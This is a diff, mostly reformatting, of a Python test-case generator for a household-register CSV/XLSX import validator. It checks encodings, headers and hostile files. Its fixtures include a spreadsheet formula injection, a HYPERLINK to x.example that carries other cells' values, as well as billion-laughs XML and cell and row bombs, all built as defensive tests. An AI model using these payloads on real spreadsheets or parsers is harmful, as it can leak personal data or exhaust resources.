@@ -117,7 +117,8 @@ def workbook_xml(sheets: list[tuple[str, str]]) -> str:
 
 def workbook_rels(targets: dict[str, str]) -> str:
     items = "".join(
-        f'<Relationship Id="{rid}" Type="{REL}/worksheet" Target="{t}"/>' for rid, t in targets.items()
+        f'<Relationship Id="{rid}" Type="{REL}/worksheet" Target="{t}"/>'
+        for rid, t in targets.items()
     )
     return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
             f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}'
@@ -167,8 +168,8 @@ def xlsx_bytes(rows: list[list[str]], shape: XlsxShape) -> bytes:
             if value == "":
                 continue
             ref = f' r="{col_letter(c)}{r}"' if shape.refs else ""
-            if shape.numbers_as_numbers and r > 1 and (value in SERIALS or value.isdigit()
-                                                         and len(value) == 11):  # fmt: skip
+            if shape.numbers_as_numbers and r > 1 and (value in SERIALS or (value.isdigit()
+                                                         and len(value) == 11)):  # fmt: skip
                 number = SERIALS.get(value, value)
                 style = ' s="1"' if value in SERIALS else ""
                 cells.append(f"<c{ref}{style}><v>{number}</v></c>")
@@ -274,8 +275,11 @@ def minimal_parts(sheet_data: str, shared: str = "", dimension: str = "A1:B2") -
 def inline_rows(rows: list[list[str]]) -> str:
     return "".join(
         f'<row r="{r}">'
-        + "".join(f'<c r="{col_letter(c)}{r}" t="inlineStr"><is><t>{esc(v)}</t></is></c>'
-                  for c, v in enumerate(row) if v)  # fmt: skip
+        + "".join(
+            f'<c r="{col_letter(c)}{r}" t="inlineStr"><is><t>{esc(v)}</t></is></c>'
+            for c, v in enumerate(row)
+            if v
+        )
         + "</row>"
         for r, row in enumerate(rows, 1)
     )
@@ -338,51 +342,133 @@ def cases() -> list[Case]:
         c.append(Case(name, build, expect))
 
     # --- encodings: what CSV files from Chinese offices are saved as
-    add("excel_gbk_han.csv", writer(excel_gbk([ZH_HEADER, *FAMILY_HAN])),
-        Expect(new=3, encoding="GBK", changes=FAMILY_CHANGES))
-    add("excel_gbk_mongolian_lost.csv", writer(excel_gbk([ZH_HEADER, *FAMILY])),
-        Expect(encoding="GBK", changes=FAMILY_CHANGES, rejected={
-            2: ["name_mn.lost_characters"], 3: ["name_mn.lost_characters"],
-            4: ["name_mn.lost_characters"]}))
-    add("gb18030_mongolian.csv", writer(csv_bytes([ZH_HEADER, *FAMILY], "gb18030")),
-        Expect(new=3, encoding="GB18030", changes=FAMILY_CHANGES))
-    add("excel_utf8_bom.csv", writer(codecs.BOM_UTF8 + csv_bytes([ZH_HEADER, *FAMILY])),
-        Expect(new=3, encoding="UTF-8 (BOM)", changes=FAMILY_CHANGES))
-    add("plain_utf8_lf.csv", writer(csv_bytes([EN_HEADER, *FAMILY], newline="\n")),
-        Expect(new=3, encoding="UTF-8", changes=FAMILY_CHANGES))
-    add("excel_unicode_text_utf16.txt",
+    add(
+        "excel_gbk_han.csv",
+        writer(excel_gbk([ZH_HEADER, *FAMILY_HAN])),
+        Expect(new=3, encoding="GBK", changes=FAMILY_CHANGES),
+    )
+    add(
+        "excel_gbk_mongolian_lost.csv",
+        writer(excel_gbk([ZH_HEADER, *FAMILY])),
+        Expect(
+            encoding="GBK",
+            changes=FAMILY_CHANGES,
+            rejected={
+                2: ["name_mn.lost_characters"],
+                3: ["name_mn.lost_characters"],
+                4: ["name_mn.lost_characters"],
+            },
+        ),
+    )
+    add(
+        "gb18030_mongolian.csv",
+        writer(csv_bytes([ZH_HEADER, *FAMILY], "gb18030")),
+        Expect(new=3, encoding="GB18030", changes=FAMILY_CHANGES),
+    )
+    add(
+        "excel_utf8_bom.csv",
+        writer(codecs.BOM_UTF8 + csv_bytes([ZH_HEADER, *FAMILY])),
+        Expect(new=3, encoding="UTF-8 (BOM)", changes=FAMILY_CHANGES),
+    )
+    add(
+        "plain_utf8_lf.csv",
+        writer(csv_bytes([EN_HEADER, *FAMILY], newline="\n")),
+        Expect(new=3, encoding="UTF-8", changes=FAMILY_CHANGES),
+    )
+    add(
+        "excel_unicode_text_utf16.txt",
         writer(codecs.BOM_UTF16_LE + csv_bytes([ZH_HEADER, *FAMILY], "utf-16-le", delimiter="\t")),
-        Expect(new=3, encoding="UTF-16", changes=FAMILY_CHANGES))
-    add("western_cp1252.csv",
-        writer(csv_bytes([["household_code", "name_zh", "township"],
-                          ["X", "Renée Müller-Françoise", "620923100"]], "cp1252")),
-        Expect(error="file.unknown_encoding"))
+        Expect(new=3, encoding="UTF-16", changes=FAMILY_CHANGES),
+    )
+    add(
+        "western_cp1252.csv",
+        writer(
+            csv_bytes(
+                [
+                    ["household_code", "name_zh", "township"],
+                    ["X", "Renée Müller-Françoise", "620923100"],
+                ],
+                "cp1252",
+            )
+        ),
+        Expect(error="file.unknown_encoding"),
+    )
     add("taiwan_big5.csv", writer(csv_bytes([["戶編號", "姓名", "鄉鎮"], ["X", "陳美麗", "黨城灣鎮"]],
                                             "big5")), Expect(error="file.unknown_encoding"))  # fmt: skip
 
     # --- XLSX as the programs in township offices write it
-    add("excel_shared_strings.xlsx", writer(xlsx_bytes([ZH_HEADER, *FAMILY], XlsxShape())),
-        Expect(new=3, encoding="XLSX", changes=FAMILY_CHANGES))
-    add("wps_phonetic_runs.xlsx", writer(xlsx_bytes([ZH_HEADER, *FAMILY], XlsxShape(
-        app="WPS 表格", phonetic=True))), Expect(new=3, changes=FAMILY_CHANGES))
-    add("libreoffice_calc.xlsx", writer(xlsx_bytes([ZH_HEADER, *FAMILY], XlsxShape(
-        app="LibreOffice/7.4.7.2$Linux_X86_64", space_preserve=True))), Expect(new=3, changes=FAMILY_CHANGES))
-    add("rich_text_runs.xlsx", writer(xlsx_bytes([ZH_HEADER, *FAMILY], XlsxShape(rich=True))),
-        Expect(new=3, changes=FAMILY_CHANGES))
-    add("no_cell_refs.xlsx", writer(xlsx_bytes([ZH_HEADER, *FAMILY], XlsxShape(
-        refs=False, shared=False, numbers_as_numbers=False))), Expect(new=3, changes=FAMILY_CHANGES))
-    add("absolute_sheet_target.xlsx", writer(xlsx_bytes([ZH_HEADER, *FAMILY], XlsxShape(
-        sheet_target="/xl/worksheets/register.xml", extra_sheet_first_in_zip=True))),
-        Expect(new=3, changes=FAMILY_CHANGES))
-    add("openpyxl_default.xlsx", openpyxl_file([EN_HEADER, *FAMILY]), Expect(new=3, changes=FAMILY_CHANGES))
-    add("openpyxl_write_only.xlsx", openpyxl_file([EN_HEADER, *FAMILY], write_only=True),
-        Expect(new=3, changes=FAMILY_CHANGES))
+    add(
+        "excel_shared_strings.xlsx",
+        writer(xlsx_bytes([ZH_HEADER, *FAMILY], XlsxShape())),
+        Expect(new=3, encoding="XLSX", changes=FAMILY_CHANGES),
+    )
+    add(
+        "wps_phonetic_runs.xlsx",
+        writer(xlsx_bytes([ZH_HEADER, *FAMILY], XlsxShape(app="WPS 表格", phonetic=True))),
+        Expect(new=3, changes=FAMILY_CHANGES),
+    )
+    add(
+        "libreoffice_calc.xlsx",
+        writer(
+            xlsx_bytes(
+                [ZH_HEADER, *FAMILY],
+                XlsxShape(app="LibreOffice/7.4.7.2$Linux_X86_64", space_preserve=True),
+            )
+        ),
+        Expect(new=3, changes=FAMILY_CHANGES),
+    )
+    add(
+        "rich_text_runs.xlsx",
+        writer(xlsx_bytes([ZH_HEADER, *FAMILY], XlsxShape(rich=True))),
+        Expect(new=3, changes=FAMILY_CHANGES),
+    )
+    add(
+        "no_cell_refs.xlsx",
+        writer(
+            xlsx_bytes(
+                [ZH_HEADER, *FAMILY], XlsxShape(refs=False, shared=False, numbers_as_numbers=False)
+            )
+        ),
+        Expect(new=3, changes=FAMILY_CHANGES),
+    )
+    add(
+        "absolute_sheet_target.xlsx",
+        writer(
+            xlsx_bytes(
+                [ZH_HEADER, *FAMILY],
+                XlsxShape(
+                    sheet_target="/xl/worksheets/register.xml", extra_sheet_first_in_zip=True
+                ),
+            )
+        ),
+        Expect(new=3, changes=FAMILY_CHANGES),
+    )
+    add(
+        "openpyxl_default.xlsx",
+        openpyxl_file([EN_HEADER, *FAMILY]),
+        Expect(new=3, changes=FAMILY_CHANGES),
+    )
+    add(
+        "openpyxl_write_only.xlsx",
+        openpyxl_file([EN_HEADER, *FAMILY], write_only=True),
+        Expect(new=3, changes=FAMILY_CHANGES),
+    )
     add("openpyxl_typed_cells.xlsx", openpyxl_file([EN_HEADER, [
         "DCW-7", "达来", "", "02", 1, 31172, "02", id_number("19850505"), 13909371234,
         620923100, ""]]), Expect(new=1, changes={"ethnicity:02", "relation:02", "sex:1"}))  # fmt: skip
 
     # --- register exports with national codes (household registration, civil affairs)
-    gb_header = ["户号", "姓名", "与户主关系", "性别", "出生日期", "民族", "公民身份号码", "乡镇", "村"]
+    gb_header = [
+        "户号",
+        "姓名",
+        "与户主关系",
+        "性别",
+        "出生日期",
+        "民族",
+        "公民身份号码",
+        "乡镇",
+        "村",
+    ]
     add("hukou_gb_codes.csv", writer(excel_gbk([gb_header,
         ["SB-201", "王建国", "02", "1", "19650302", "01", id_number("19650302", "011"),
          "620923200000", ""],
@@ -415,38 +501,81 @@ def cases() -> list[Case]:
         row(name_zh="丁", birth_date="1985", id_number=""),
         row(name_zh="戊", birth_date="1985-13-40", id_number="")])),
         Expect(rejected={5: ["date_format"], 6: ["date_format"]}))  # fmt: skip
-    add("ethnicity_outside_app_list.csv", writer(csv_bytes([EN_HEADER,
-        row(ethnicity="土族"), row(name_zh="乙", ethnicity="30", id_number="")])),
-        Expect(new=2, warnings=["ethnicity.generalised", "ethnicity.generalised"],
-               changes={"ethnicity:30", "ethnicity:土族"}))
-    add("unknown_relation_word.csv", writer(csv_bytes([EN_HEADER, row(relation="老大")])),
-        Expect(rejected={2: ["relation.unknown"]}))
+    add(
+        "ethnicity_outside_app_list.csv",
+        writer(
+            csv_bytes(
+                [EN_HEADER, row(ethnicity="土族"), row(name_zh="乙", ethnicity="30", id_number="")]
+            )
+        ),
+        Expect(
+            new=2,
+            warnings=["ethnicity.generalised", "ethnicity.generalised"],
+            changes={"ethnicity:30", "ethnicity:土族"},
+        ),
+    )
+    add(
+        "unknown_relation_word.csv",
+        writer(csv_bytes([EN_HEADER, row(relation="老大")])),
+        Expect(rejected={2: ["relation.unknown"]}),
+    )
 
     # --- headers: nothing dropped unseen
     misspelled = [h.replace("id_number", "id_numbr").replace("phone", "phnoe") for h in EN_HEADER]
-    add("misspelled_headers.csv", writer(csv_bytes([misspelled, *FAMILY_HAN])),
-        Expect(error="file.unknown_columns"))
-    add("extra_column_ignored.csv", writer(csv_bytes([[*EN_HEADER, "备注"], [*FAMILY_HAN[0], "x"]])),
-        Expect(new=1, ignore=("备注",)))
-    add("extra_column_unannounced.csv",
+    add(
+        "misspelled_headers.csv",
+        writer(csv_bytes([misspelled, *FAMILY_HAN])),
+        Expect(error="file.unknown_columns"),
+    )
+    add(
+        "extra_column_ignored.csv",
         writer(csv_bytes([[*EN_HEADER, "备注"], [*FAMILY_HAN[0], "x"]])),
-        Expect(error="file.unknown_columns"))
-    add("duplicate_header.csv", writer(csv_bytes([[*EN_HEADER, "姓名"], [*FAMILY_HAN[0], "乙"]])),
-        Expect(error="file.duplicate_columns"))
-    add("unnamed_column_with_data.csv",
+        Expect(new=1, ignore=("备注",)),
+    )
+    add(
+        "extra_column_unannounced.csv",
+        writer(csv_bytes([[*EN_HEADER, "备注"], [*FAMILY_HAN[0], "x"]])),
+        Expect(error="file.unknown_columns"),
+    )
+    add(
+        "duplicate_header.csv",
+        writer(csv_bytes([[*EN_HEADER, "姓名"], [*FAMILY_HAN[0], "乙"]])),
+        Expect(error="file.duplicate_columns"),
+    )
+    add(
+        "unnamed_column_with_data.csv",
         writer(csv_bytes([[*EN_HEADER, ""], [*FAMILY_HAN[0], ""], [*FAMILY_HAN[1], "留言"]])),
-        Expect(rejected={3: ["cell.unnamed_column"]}, changes={"relation:妻"}))
-    add("cells_past_header.csv", writer(csv_bytes([EN_HEADER, [*FAMILY_HAN[0], "", "多出"]])),
-        Expect(rejected={2: ["row.too_many_cells"]}))
-    add("starred_required_headers.csv", writer(csv_bytes(
-        [["户编号*", "姓名*", "乡镇 *", "村（社区）"], ["Q-1", "王五", "党城湾镇", "城关村"]])),
-        Expect(new=1))
+        Expect(rejected={3: ["cell.unnamed_column"]}, changes={"relation:妻"}),
+    )
+    add(
+        "cells_past_header.csv",
+        writer(csv_bytes([EN_HEADER, [*FAMILY_HAN[0], "", "多出"]])),
+        Expect(rejected={2: ["row.too_many_cells"]}),
+    )
+    add(
+        "starred_required_headers.csv",
+        writer(
+            csv_bytes(
+                [
+                    ["户编号*", "姓名*", "乡镇 *", "村（社区）"],
+                    ["Q-1", "王五", "党城湾镇", "城关村"],
+                ]
+            )
+        ),
+        Expect(new=1),
+    )
 
     # --- values that would be changed or emptied
-    add("phone_letters.csv", writer(csv_bytes([EN_HEADER, row(phone="abc")])),
-        Expect(rejected={2: ["phone.not_a_number"]}))
-    add("phone_formula.csv", writer(csv_bytes([EN_HEADER, row(phone="=1+1")])),
-        Expect(rejected={2: ["phone.not_a_number"]}))
+    add(
+        "phone_letters.csv",
+        writer(csv_bytes([EN_HEADER, row(phone="abc")])),
+        Expect(rejected={2: ["phone.not_a_number"]}),
+    )
+    add(
+        "phone_formula.csv",
+        writer(csv_bytes([EN_HEADER, row(phone="=1+1")])),
+        Expect(rejected={2: ["phone.not_a_number"]}),
+    )
     add("formula_like_name.csv", writer(csv_bytes([EN_HEADER,
         row(name_zh='=HYPERLINK("http://x.example/?"&I2&J2)'), row(name_zh="@SUM(1)", id_number="",
                                                                   household_code="F-2")])),
@@ -477,27 +606,62 @@ def cases() -> list[Case]:
         Expect(new=1, rejected={2: ["cell.too_long"]}, skip_bad=True))  # fmt: skip
 
     # --- hostile and broken files
-    add("dimension_xfd1048576.xlsx", writer(xlsx_parts(minimal_parts(
-        inline_rows([EN_HEADER, FAMILY_HAN[0]]), dimension="A1:XFD1048576"))),
-        Expect(new=1))
-    add("cell_bomb_300mb.xlsx", lambda p: big_cell_xlsx(p, 300 << 20),
-        Expect(error="file.too_big_unpacked"))
+    add(
+        "dimension_xfd1048576.xlsx",
+        writer(
+            xlsx_parts(
+                minimal_parts(inline_rows([EN_HEADER, FAMILY_HAN[0]]), dimension="A1:XFD1048576")
+            )
+        ),
+        Expect(new=1),
+    )
+    add(
+        "cell_bomb_300mb.xlsx",
+        lambda p: big_cell_xlsx(p, 300 << 20),
+        Expect(error="file.too_big_unpacked"),
+    )
     add("rows_bomb.xlsx", lambda p: many_rows_xlsx(p, 60_000), Expect(error="file.too_many_rows"))
-    add("far_column.xlsx", writer(xlsx_parts(minimal_parts(
-        inline_rows([EN_HEADER]) + '<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row>'))),
-        Expect(error="file.too_many_columns"))
-    add("billion_laughs.xlsx", writer(xlsx_parts(minimal_parts(
-        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared=BILLION_LAUGHS))),
-        Expect(error="file.xlsx_dtd"))
+    add(
+        "far_column.xlsx",
+        writer(
+            xlsx_parts(
+                minimal_parts(
+                    inline_rows([EN_HEADER])
+                    + '<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row>'
+                )
+            )
+        ),
+        Expect(error="file.too_many_columns"),
+    )
+    add(
+        "billion_laughs.xlsx",
+        writer(
+            xlsx_parts(
+                minimal_parts(
+                    '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared=BILLION_LAUGHS
+                )
+            )
+        ),
+        Expect(error="file.xlsx_dtd"),
+    )
     add("csv_renamed_xlsx.xlsx", writer(csv_bytes([EN_HEADER])), Expect(error="file.not_xlsx"))
-    add("zip_without_sheet.xlsx", writer(xlsx_parts({"[Content_Types].xml": CT})),
-        Expect(error="file.not_xlsx"))
-    add("legacy_xls.xls", writer(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
-        Expect(error="file.unsupported_format"))
+    add(
+        "zip_without_sheet.xlsx",
+        writer(xlsx_parts({"[Content_Types].xml": CT})),
+        Expect(error="file.not_xlsx"),
+    )
+    add(
+        "legacy_xls.xls",
+        writer(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
+        Expect(error="file.unsupported_format"),
+    )
     add("empty.csv", writer(b""), Expect(error="file.empty"))
     add("header_only.csv", writer(csv_bytes([EN_HEADER])), Expect(new=0))
-    add("unclosed_quote.csv", writer(b'household_code,name_zh,township\nA,"abc,620923100\n'),
-        Expect(rejected={2: ["township.unknown"]}))
+    add(
+        "unclosed_quote.csv",
+        writer(b'household_code,name_zh,township\nA,"abc,620923100\n'),
+        Expect(rejected={2: ["township.unknown"]}),
+    )
     return c
 
 
